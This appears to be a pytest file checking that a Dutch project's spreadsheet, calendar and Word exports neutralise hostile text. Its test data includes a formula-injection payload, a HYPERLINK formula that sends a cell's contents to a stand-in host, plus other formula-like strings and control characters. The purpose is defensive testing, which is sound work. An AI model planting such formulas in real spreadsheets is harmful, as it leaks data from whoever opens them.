"""Exports of hostile text: formulas stay text, control characters never crash or get through.

A cohort whose tasks, plan titles, code names and organisations were typed to attack whoever
opens the exported files: every `ww export` still succeeds, and no spreadsheet holds a formula.
"""

from __future__ import annotations

import contextlib
import io
import re
import shutil
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest
from conftest import DATA, replace, write_override

from wwlib.app.cli import main
from wwlib.core.control_chars import printable
from wwlib.folder.dataset import load_dataset
from wwlib.store import Store

HYPERLINK = '=HYPERLINK("http://x/?leak="&B2,"Klik hier")'
LONG = "Lange taak " + "x" * 289  # 300 characters
TITLES = [HYPERLINK, "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\x01x", LONG]
PLAN = "wijkgericht-werken"
LONG_PLAN = "Wijkgericht werken " + "y" * 281  # 300 characters
CONTROL_PLAN = "=Vitaliteit\x01 en werkdruk"
CODE_NAME = "=SUM(1;2)"
ORGANISATION = "=Gemeente Lindeveen"
WHATS = ["tasks", "xlsx", "ics", "handreiking"]
OUT = {"tasks": "taken.xlsx", "xlsx": "tabellen.xlsx", "ics": "taken.ics", "handreiking": "hr"}
C0_BUT_TAB_CR_LF = re.compile(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def _hostile_store(folder: Path, path: Path) -> None:
    """A store of the folder with every hostile text: what the Store API takes through it, and
    control characters (which it refuses now) written into the rows as an older store holds
    them."""
    with Store(path, actor="tester", create=True) as store:
        store.load_dataset(load_dataset(folder), source=str(folder))
        for title in TITLES:
            clean = printable(title)
            task = store.add_task(PLAN, 1, clean, due="2026-11-02", note=clean)
            store._con.execute(
                "UPDATE task SET title = ?, note = ? WHERE id = ?", (title, title, task)
            )
        store.set_plan_text(PLAN, title=LONG_PLAN)
        store.set_plan_text("vitaliteit-en-werkdruk", title=printable(CONTROL_PLAN))
        store._con.execute(
            "UPDATE plan SET title = ? WHERE id = 'vitaliteit-en-werkdruk'", (CONTROL_PLAN,)
        )
        store.rename_code(store.codes()["id"].iloc[0], CODE_NAME)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, Path]:
    """A copy of the Lindeveen folder (one organisation starting with '=') and its store."""
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "lindeveen-2026"
    shutil.copytree(DATA / "lindeveen-2026", folder)
    write_override(folder / "people.csv", replace(",Gemeente Lindeveen,", f",{ORGANISATION},"))
    _hostile_store(folder, root / "s.sqlite")
    return folder, root / "s.sqlite"


def _export(hostile, what: str, out: Path) -> tuple[int, str]:
    """Run `ww export WHAT` on the hostile cohort; its exit code and everything it printed."""
    folder, store = hostile
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed), contextlib.redirect_stderr(printed):
        code = main(["export", what, str(folder), str(out), "--store", str(store)])
    return code, printed.getvalue()


@pytest.fixture(scope="module")
def exported(hostile, tmp_path_factory) -> dict[str, Path]:
    """Every export of the hostile cohort, written once for the tests that read them."""
    out = tmp_path_factory.mktemp("out")
    paths = {}
    for what in WHATS:
        code, printed = _export(hostile, what, out / OUT[what])
        assert code == 0, printed
        paths[what] = out / OUT[what]
    return paths


@pytest.mark.parametrize("what", WHATS)
def test_every_export_of_hostile_text_succeeds_without_traceback(hostile, tmp_path, capsys, what):
    folder, store = hostile
    out = tmp_path / OUT[what]
    assert main(["export", what, str(folder), str(out), "--store", str(store)]) == 0
    printed = capsys.readouterr()
    assert "Traceback" not in printed.out + printed.err
    assert "Error" not in printed.err
    assert out.exists()


# -- spreadsheets ----------------------------------------------------------------------------


@pytest.mark.parametrize("what", ["tasks", "xlsx"])
def test_no_cell_of_any_sheet_is_a_formula(exported, what):
    book = openpyxl.load_workbook(exported[what])
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert any(isinstance(c.value, str) and c.value.startswith("=") for c in cells)  # can fail
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    with zipfile.ZipFile(exported[what]) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert re.search(rb"<f[ >/]", archive.read(name)) is None, name


@pytest.mark.parametrize("what", ["tasks", "xlsx"])
def test_text_that_looks_like_a_formula_keeps_excels_quote_prefix(exported, what):
    book = openpyxl.load_workbook(exported[what])
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    looking = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert looking
    assert all(c.quotePrefix and c.data_type == "s" for c in looking)


@pytest.mark.parametrize("title", TITLES)
@pytest.mark.parametrize("sheet", ["Taken", "Per eigenaar"])
def test_task_list_shows_each_hostile_title_as_text(exported, sheet, title):
    rows = list(openpyxl.load_workbook(exported["tasks"])[sheet].iter_rows(values_only=True))
    header = rows[0]
    titles = [r[header.index("Taak")] for r in rows[1:]]
    notes = [r[header.index("Opmerking")] for r in rows[1:]]
    shown = printable(title).replace("\r", "\n")  # XML reads a carriage return as a line feed
    assert shown in {t.replace("\r", "\n") for t in titles}
    assert shown in {n.replace("\r", "\n") for n in notes if n}


def test_task_list_keeps_numbers_and_dates(exported):
    sheet = openpyxl.load_workbook(exported["tasks"])["Taken"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("Taak")].value == "+1")
    assert row[header.index("Stap")].data_type == "n"
    assert row[header.index("Vanaf")].is_date
    assert row[header.index("Vanaf")].value.date().isoformat() == "2026-11-02"


@pytest.mark.parametrize(
    ("what", "text"),
    [
        ("xlsx", CODE_NAME),
        ("xlsx", ORGANISATION),
        ("tasks", LONG_PLAN),
        ("tasks", printable(CONTROL_PLAN)),
    ],
)
def test_names_and_plan_titles_show_as_text(exported, what, text):
    book = openpyxl.load_workbook(exported[what])
    values = {str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row}
    assert any(text in v for v in values), text


# -- calendar ------------------------------------------------------------------------------


def test_calendar_holds_no_control_characters(exported):
    data = exported["ics"].read_bytes()
    assert C0_BUT_TAB_CR_LF.search(data) is None
    assert re.search(rb"\r(?!\n)", data) is None  # every CR ends a line
    assert re.search(rb"(?<!\r)\n", data) is None


@pytest.mark.parametrize("title", TITLES)
def test_calendar_has_an_event_for_each_hostile_title(exported, title):
    text = exported["ics"].read_bytes().decode("utf-8").replace("\r\n ", "")  # unfold
    summary = printable(title).replace("\r", "\\n").replace(",", "\\,").replace(";", "\\;")
    assert f"SUMMARY:{summary}\r\n" in text


# -- handreikingen -------------------------------------------------------------------------


def test_handreiking_cuts_a_long_title_in_its_properties_only(exported):
    path = exported["handreiking"] / "handreiking-wijkgericht-werken.docx"
    document = docx.Document(str(path))
    assert len(document.core_properties.title) == 255
    body = "\n".join(p.text for p in document.paragraphs)
    assert LONG_PLAN in body
    assert LONG in "\n".join(c.text for t in document.tables for r in t.rows for c in r.cells)


def test_handreiking_replaces_control_characters(exported):
    path = exported["handreiking"] / "handreiking-vitaliteit-en-werkdruk.docx"
    document = docx.Document(str(path))
    assert document.core_properties.title.endswith(printable(CONTROL_PLAN))
    assert printable(CONTROL_PLAN) in document.paragraphs[0].text
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.endswith(".xml"))
    assert C0_BUT_TAB_CR_LF.search(xml) is None
